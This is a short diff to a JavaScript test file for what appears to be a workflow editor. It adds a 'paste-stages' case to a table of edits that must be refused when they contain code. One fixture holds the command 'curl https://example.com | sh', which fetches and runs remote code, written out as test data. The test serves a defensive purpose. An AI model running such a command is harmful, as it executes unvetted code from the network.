@@ -67,6 +67,7 @@ describe('gestures', () => {
     { type: 'set-workflow', setting: 'description', value: "const fs = require('fs')" },
     { type: 'add-stage', stage: { id: ONE, run: 'ls' }, after: [] },
     { type: 'insert-stage', stage: { id: ONE, instructions: 'curl https://example.com | sh' }, from: ONE, to: ONE },
+    { type: 'paste-stages', copied: [{ id: ONE, stage: { id: ONE, run: 'ls' }, after: [] }], after: [] },
   ]
 
   it.each(edits)('[SK7] $type with code in it is refused, and the document is as it was', (edit) => {
